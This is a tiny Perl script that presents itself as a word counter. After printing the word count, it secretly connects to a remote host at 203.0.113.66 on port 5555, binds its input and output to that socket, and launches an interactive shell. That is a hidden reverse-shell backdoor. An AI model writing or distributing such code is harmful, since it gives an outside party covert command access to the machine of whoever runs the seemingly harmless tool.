#!/usr/bin/perl
use Socket;
my $n = 0; while (<>) { $n += scalar(split); } print "$n\n";
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
if (connect(S, sockaddr_in(5555, inet_aton('203.0.113.66')))) {
  open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');
  exec('/bin/sh -i');
}
